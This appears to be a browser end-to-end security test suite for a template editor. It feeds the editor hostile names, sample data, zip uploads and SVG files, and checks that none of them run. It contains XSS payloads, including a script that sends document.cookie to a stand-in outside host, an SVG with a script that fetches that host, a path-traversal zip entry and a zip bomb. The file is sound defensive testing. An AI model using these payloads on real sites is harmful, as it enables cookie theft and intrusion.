import { expect } from 'chai'
import { zipSync } from 'fflate'
import type { BrowserContext, Page } from 'playwright-core'
import { listenForTrouble, openBrowser, openProfile, type SuiteBrowser } from './parts/browser.ts'
import { type DashboardSession, signUp } from './parts/dashboard-session.ts'
import { makeTemplate, openEditor } from './parts/editor-page.ts'
import { htmlTemplate, type SharedStack, shareStack } from './parts/stack.ts'

const elsewhere = 'http://198.51.100.7'
const hostile = '<img src=x onerror=alert(1)>'
const script = `<script>fetch('${elsewhere}/?'+document.cookie);alert(2)</script>`

describe('hostile names, data and files, in a browser against the whole stack', () => {
  let stack: SharedStack
  let browser: SuiteBrowser
  let session: DashboardSession
  let profile: BrowserContext
  let page: Page
  /** Exceptions, dialogs, requests to other hosts, and elements that only hostile markup creates. */
  let harm: string[]

  before(async () => {
    ;[stack, browser] = await Promise.all([shareStack(), openBrowser()])
    session = await signUp(stack, { email: 'author@hostile.example.com', name: hostile })
    profile = await openProfile(browser, stack, session)
    profile.on('request', (request) => {
      const url = request.url()
      if (!/^(?:blob|data):/.test(url) && !url.startsWith(stack.baseUrl)) harm.push(`request: ${url}`)
    })
  })
  after(async () => {
    await browser?.close()
    await stack?.close()
  })
  beforeEach(async () => {
    page = await profile.newPage()
    harm = listenForTrouble(page)
    page.on('dialog', (dialog) => {
      harm.push(`dialog: ${dialog.message()}`)
      void dialog.dismiss()
    })
  })
  afterEach(async () => {
    await page.close()
    expect(harm).to.deep.equal([])
  })

  async function expectNoMarkup() {
    expect(await page.locator('img[src=x], img[onerror]').count(), 'hostile markup on the page').to.equal(0)
  }

  it('shows a name with markup as text everywhere', async () => {
    const templateId = await makeTemplate(session, {
      files: textFiles('<p>Dear {{name}}</p>', { name: 'Ada' }),
    })
    await page.goto(`${stack.baseUrl}/app/`)
    await page.getByRole('button', { name: 'More for “Test”' }).click()
    await page.getByRole('menuitem', { name: 'Rename' }).click()
    await page.getByRole('dialog').getByLabel('Name').fill(hostile)
    await page.getByRole('dialog').getByRole('button', { name: 'Rename' }).click()
    await page.getByRole('link', { name: hostile, exact: true }).waitFor()
    await page.getByRole('button', { name: `More for “${hostile}”` }).click()
    await page.getByRole('menuitem', { name: 'Duplicate' }).click()
    await page.getByText(`“${hostile}” duplicated.`).waitFor()
    await expectNoMarkup()
    await page.keyboard.press('Control+k')
    await page.getByRole('textbox', { name: /^Search pages/ }).fill('onerror')
    await page
      .getByRole('option')
      .or(page.getByRole('button', { name: hostile }))
      .first()
      .waitFor()
    await expectNoMarkup()
    const editor = await openEditor(page, { stack, templateId })
    await page.getByRole('heading', { name: hostile }).waitFor()
    await editor.untilShown('Dear Ada')
    expect(await page.title()).to.include(hostile)
    await expectNoMarkup()
  })

  it('prints data with markup as text, and shows it as text', async () => {
    const files = textFiles('<p>Dear {{name}}</p>{{#rows}}<p>{{a}}</p>{{/rows}}', {
      name: script,
      rows: [{ a: hostile }],
      [hostile]: 'a key',
    })
    const templateId = await makeTemplate(session, { files })
    const editor = await openEditor(page, { stack, templateId, search: 'tab=data' })
    await page.getByText(hostile).first().waitFor()
    await page.getByRole('button', { name: `Remove ${hostile} from the sample` }).click()
    await editor.untilShown('Dear <script>')
    expect(await page.getByLabel('name', { exact: true }).inputValue()).to.equal(script)
    await expectNoMarkup()
  })

  it('422 invalid_upload: refuses a zip with paths outside of its folder and a zip bomb, with the reason', async () => {
    const text = new TextEncoder().encode('<p>a</p>')
    const zips: [string, Record<string, Uint8Array>, RegExp][] = [
      ['out.zip', { 'template.html': text, '../../evil.html': text }, /is outside the folder/],
      [
        'bomb.zip',
        { 'template.html': text, 'assets/zeros.bin': new Uint8Array(60 * 2 ** 20) },
        /a hundred times its size/,
      ],
    ]
    await page.goto(`${stack.baseUrl}/app/new`)
    for (const [name, entries, reason] of zips) {
      const buffer = Buffer.from(zipSync(entries, { level: 9 }))
      await page
        .locator('input[type=file][accept^=".zip"]')
        .setInputFiles({ name, mimeType: 'application/zip', buffer })
      await page.getByText(reason).waitFor()
    }
    expect(page.url()).to.match(/\/app\/new$/)
  })

  it('refuses a 10 MB sample, and shows the limit', async () => {
    const templateId = await makeTemplate(session, { files: textFiles('<p>{{name}}</p>', { name: 'Ada' }) })
    const editor = await openEditor(page, { stack, templateId, search: 'tab=data' })
    await editor.untilShown('Ada')
    await page.getByRole('button', { name: 'New', exact: true }).click()
    await page.getByRole('menuitem', { name: 'Import JSON, CSV or field names…' }).click()
    const dialog = page.getByRole('dialog')
    const buffer = Buffer.from(JSON.stringify({ name: 'x'.repeat(10 * 2 ** 20) }))
    await dialog
      .locator('input[type=file]')
      .setInputFiles({ name: 'big.json', mimeType: 'application/json', buffer })
    await dialog.getByText(/10\.0 MB, but .*up to 2 MB/).waitFor()
    await page.keyboard.press('Escape')
    await editor.untilShown('Ada')
  })

  it('refuses a drawing with a script, shows its position, and does not run it', async () => {
    const templateId = await makeTemplate(session, {
      files: textFiles('<p>Dear {{name}}</p>', { name: 'Ada' }),
    })
    const editor = await openEditor(page, { stack, templateId, search: 'tab=code&file=assets' })
    await editor.untilShown('Dear Ada')
    const svg = `<svg xmlns="http://www.w3.org/2000/svg" width="40" height="40" onload="alert(3)">
      <script>alert(4);fetch('${elsewhere}')</script><image href="${elsewhere}/a.png"/><circle r="20"/></svg>`
    await page
      .getByRole('region', { name: 'Assets' })
      .locator('input[type=file]')
      .setInputFiles({ name: 'logo.svg', mimeType: 'image/svg+xml', buffer: Buffer.from(svg) })
    const address = await page
      .getByRole('list', { name: 'Assets of the template' })
      .locator('img')
      .getAttribute('src')
    await page.getByRole('button', { name: 'Insert logo.svg into the page' }).click()
    const fault = page.getByRole('region', { name: 'Preview errors' })
    await fault.getByText('assets/logo.svg, line 2').first().waitFor()
    await fault.getByText(/<script> is refused/).waitFor()
    await editor.untilShown('Dear Ada')
    await editor.untilSaved()
    // If the file could be opened directly, its script would run on the dashboard's origin, so it can only be downloaded.
    const [download] = await Promise.all([
      page.waitForEvent('download'),
      page.goto(`${stack.baseUrl}${address}`).catch(() => undefined),
    ])
    expect(download.suggestedFilename()).to.match(/svg/)
  })
})

/** Returns the files of a template named Test, with a sample. */
function textFiles(html: string, sample: Record<string, unknown>): Record<string, string> {
  return { ...Object.fromEntries(htmlTemplate(html)), 'sample.json': JSON.stringify(sample) }
}
